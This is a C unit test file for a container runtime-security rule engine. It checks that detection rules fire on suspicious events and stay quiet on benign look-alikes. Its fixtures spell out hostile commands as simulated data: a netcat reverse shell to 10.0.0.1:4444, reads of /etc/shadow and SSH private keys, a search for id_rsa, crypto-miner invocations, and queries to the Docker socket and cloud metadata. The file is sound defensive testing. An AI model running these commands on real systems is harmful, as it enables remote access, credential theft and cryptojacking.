/* The rules that are shipped: they load without a remark, fire, stay quiet on look-alikes, and give
 * rules of others what these expect. */
#include "tests/unit/rules_fixture.h"

#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <unistd.h>

#include <cmocka.h>

static struct rules_fixture fx;
static struct ruleset *rs;

static int load_set(void **state)
{
	const char *path = rfx_source_path("config/default/rules");
	AUTO(rules_report_fini) struct rules_report r = RULES_REPORT_INIT;
	struct err e;

	(void)state;
	assert_int_equal(rules_load(&rs, &path, 1, NULL, &r, &e), 0);
	for (size_t i = 0; i < r.list.n; i++)
		print_error("%s:%u: %s\n", r.list.p[i].file, r.list.p[i].line, r.list.p[i].what);
	assert_int_equal(r.list.n, 0);
	return 0;
}

static int unload(void **state)
{
	(void)state;
	ruleset_unref(rs);
	return 0;
}

static int setup(void **state)
{
	(void)state;
	rfx_init(&fx);
	return 0;
}

static const char *matches(struct ruleset *set)
{
	static char out[1024];
	AUTO(judge_free) struct judge *j = judge_new(&(struct judge_options){ .rules = set });
	struct judge_alerts alerts = { 0 };

	out[0] = '\0';
	rfx_judge(&fx, j, &alerts);
	for (size_t i = 0; i < alerts.list.n; i++)
		snprintf(out + strlen(out), sizeof(out) - strlen(out), "%s%s", i ? "; " : "",
			alerts.list.p[i]->rule);
	rfx_alerts_fini(&alerts);
	return out;
}

#define assert_fires(name) assert_string_equal(matches(rs), name)
#define assert_quiet()     assert_string_equal(matches(rs), "")

static void every_rule_runs_and_is_mapped(void **state)
{
	(void)state;
	assert_true(ruleset_count(rs) >= 8);
	for (size_t i = 0; i < ruleset_count(rs); i++) {
		const struct rule_info *r = ruleset_rule(rs, i);
		bool technique = false;

		assert_int_equal(r->state, RULE_ACTIVE);
		for (size_t k = 0; k < r->tags_n; k++)
			technique |= r->tags[k][0] == 'T' && r->tags[k][1] >= '0' &&
				     r->tags[k][1] <= '9';
		assert_true(technique);
	}
}

static void interactive_shell(void **state)
{
	(void)state;
	fx.process[0].tty = 34816;
	assert_quiet();
	rfx_container(&fx, CONTAINER_KNOWN);
	assert_fires("Interactive shell in a container");
	fx.process[0].tty = 0;
	assert_quiet();
	fx.process[0].tty = 34816;
	fx.ev.ret = -2;
	assert_quiet();
}

static void program_in_memory(void **state)
{
	(void)state;
	rfx_process(&fx, 0, "payload", "/memfd:payload", "payload");
	fx.process[0].exe_memfd = true;
	assert_fires("Program run from memory");
	rfx_process(&fx, 0, "6", "/memfd:runc_cloned:/proc/self/exe", "runc init");
	assert_quiet();
}

static void new_program(void **state)
{
	(void)state;
	rfx_container(&fx, CONTAINER_KNOWN);
	rfx_process(&fx, 0, "x", "/tmp/x", "/tmp/x");
	assert_quiet();
	fx.process[0].exe_upper = true;
	assert_fires("New program run from a temporary directory of a container");
	rfx_process(&fx, 0, "x", "/opt/x", "/opt/x");
	assert_fires("New program run in a container");
	rfx_process(&fx, 1, "dpkg", "/usr/bin/dpkg", "dpkg --configure -a");
	assert_quiet();
	rfx_process(&fx, 1, "make", "/usr/bin/make", "make -j2");
	rfx_process(&fx, 0, "fixdep", "/tmp/linux/scripts/basic/fixdep", "fixdep");
	assert_quiet();
}

static void sensitive_read(void **state)
{
	(void)state;
	rfx_open(&fx, "/etc/shadow", "/etc/shadow", O_RDONLY);
	rfx_process(&fx, 0, "cat", "/usr/bin/cat", "cat /etc/shadow");
	assert_quiet();
	rfx_container(&fx, CONTAINER_KNOWN);
	assert_fires("Sensitive file read in a container");
	rfx_process(&fx, 0, "useradd", "/usr/sbin/useradd", "useradd x");
	assert_quiet();
	rfx_process(&fx, 0, "cat", "/usr/bin/cat", "cat");
	rfx_open(&fx, "/etc/passwd", "/etc/passwd", O_RDONLY);
	assert_quiet();
	rfx_open(&fx, "/root/.ssh/id_ed25519", NULL, O_RDONLY);
	assert_fires("Sensitive file read in a container");
	rfx_open(&fx, "/root/.ssh/id_ed25519.pub", NULL, O_RDONLY);
	assert_quiet();
	rfx_open(&fx, NULL, "/etc/shadow", O_RDONLY);
	assert_quiet();
}

static void mining(void **state)
{
	(void)state;
	rfx_process(&fx, 0, "xmrig", "/usr/bin/xmrig", "xmrig");
	assert_fires("Crypto mining program");
	rfx_process(&fx, 0, "worker", "/usr/bin/worker", "worker -o stratum+tcp://pool:3333");
	assert_fires("Crypto mining program");
	rfx_process(&fx, 0, "grep", "/usr/bin/grep", "grep stratum /etc/ntp.conf");
	assert_quiet();
}

static void shared_memory(void **state)
{
	(void)state;
	rfx_process(&fx, 0, "x", "/dev/shm/x", "x");
	assert_fires("Program run from shared memory");
	rfx_process(&fx, 0, "x", "/dev/shmx/x", "x");
	assert_quiet();
}

static void netcat(void **state)
{
	(void)state;
	rfx_process(&fx, 0, "nc", "/bin/nc", "nc 10.0.0.1 4444 -e /bin/sh");
	assert_fires("Netcat hands over a shell");
	rfx_process(&fx, 0, "nc", "/bin/nc", "nc -zv 10.0.0.1 443");
	assert_quiet();
}

static void key_search(void **state)
{
	(void)state;
	rfx_process(&fx, 0, "find", "/usr/bin/find", "find / -name id_rsa");
	assert_fires("Search for private keys");
	rfx_process(&fx, 0, "find", "/usr/bin/find", "find . -name *.c");
	assert_quiet();
}

static void runtime_socket(void **state)
{
	(void)state;
	rfx_net(&fx, EVENT_CONNECT, "0.0.0.0", 0, "0.0.0.0", 0);
	fx.ev.net.family = EVENT_AF_UNIX;
	fx.ev.net.path = rfx_span(&fx, "/var/run/docker.sock");
	assert_quiet();
	rfx_container(&fx, CONTAINER_KNOWN);
	assert_fires("Container reaches for the runtime's socket");
	fx.ev.net.path = rfx_span(&fx, "/var/run/nscd/socket");
	assert_quiet();
}

static void cloud_metadata(void **state)
{
	(void)state;
	rfx_container(&fx, CONTAINER_KNOWN);
	rfx_net(&fx, EVENT_CONNECT, "10.0.0.2", 4000, "169.254.169.254", 80);
	assert_fires("Container asks for cloud metadata");
	rfx_net(&fx, EVENT_CONNECT, "10.0.0.2", 4000, "169.254.169.253", 80);
	assert_quiet();
}

/* Load the shipped rules and then the given file or folder of the shared test data. */
static struct ruleset *load_behind(const char *shared, struct rules_report *r)
{
	char first[4096], second[4096];
	const char *paths[] = { first, second };
	struct ruleset *set = NULL;
	struct err e;

	snprintf(first, sizeof(first), "%s", rfx_source_path("config/default/rules"));
	snprintf(second, sizeof(second), "%s", rfx_source_path(shared));
	if (access(second, R_OK) != 0) {
		const char *ci = getenv("CI");

		if (ci && strcmp(ci, "true") == 0)
			fail_msg("%s is absent", second);
		print_message("SKIP: %s is absent\n", second);
		return NULL;
	}
	if (rules_load(&set, paths, 2, NULL, r, &e))
		fail_msg("%s", e.msg);
	return set;
}

static bool fires(struct ruleset *set, const char *rule)
{
	char list[1100];

	snprintf(list, sizeof(list), "; %s;", matches(set));
	return strstr(list, rule) != NULL;
}

static void rules_of_others_load_behind_ours_and_fire(void **state)
{
	AUTO(rules_report_fini) struct rules_report r = RULES_REPORT_INIT;
	AUTO(ruleset_unref) struct ruleset *set = load_behind("../shared/data/seed-rules", &r);

	(void)state;
	if (!set)
		skip();
	assert_int_equal(r.list.n, 0);
	rfx_process(&fx, 0, "sh", "/bin/dash", "sh -c true");
	assert_false(fires(set, "Detect Shell in Container"));
	assert_false(fires(set, "; Terminal shell in container"));
	rfx_container(&fx, CONTAINER_KNOWN);
	assert_true(fires(set, "Detect Shell in Container"));
	assert_true(fires(set, "; Terminal shell in container"));
	rfx_open(&fx, "/etc/shadow", NULL, O_RDONLY);
	rfx_process(&fx, 0, "cat", "/bin/cat", "cat /etc/shadow");
	assert_true(fires(set, "Detect Sensitive File Read"));
	assert_true(fires(set, "Read sensitive file in container"));
	rfx_init(&fx);
	rfx_process(&fx, 0, "x", "/bin/x", "x -o stratum+tcp://p");
	assert_true(fires(set, "Detect Crypto Mining"));
}

/* 93 rules: each loads, or says what is missing; none is an error. */
static void the_known_rule_files_have_no_errors(void **state)
{
	AUTO(rules_report_fini) struct rules_report r = RULES_REPORT_INIT;
	AUTO(ruleset_unref) struct ruleset *set = load_behind("../shared/data/falco-rules", &r);

	(void)state;
	if (!set)
		skip();
	assert_int_equal(r.errors_n, 0);
	assert_true(r.rules_n >= 93 + 8);
	for (size_t i = 0; i < ruleset_count(set); i++) {
		const struct rule_info *info = ruleset_rule(set, i);

		assert_true(info->state == RULE_ACTIVE || info->why[0] != '\0');
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup(every_rule_runs_and_is_mapped, setup),
		cmocka_unit_test_setup(interactive_shell, setup),
		cmocka_unit_test_setup(program_in_memory, setup),
		cmocka_unit_test_setup(new_program, setup),
		cmocka_unit_test_setup(sensitive_read, setup),
		cmocka_unit_test_setup(mining, setup),
		cmocka_unit_test_setup(shared_memory, setup),
		cmocka_unit_test_setup(netcat, setup),
		cmocka_unit_test_setup(key_search, setup),
		cmocka_unit_test_setup(runtime_socket, setup),
		cmocka_unit_test_setup(cloud_metadata, setup),
		cmocka_unit_test_setup(rules_of_others_load_behind_ours_and_fire, setup),
		cmocka_unit_test_setup(the_known_rule_files_have_no_errors, setup),
	};

	return cmocka_run_group_tests(tests, load_set, unload);
}
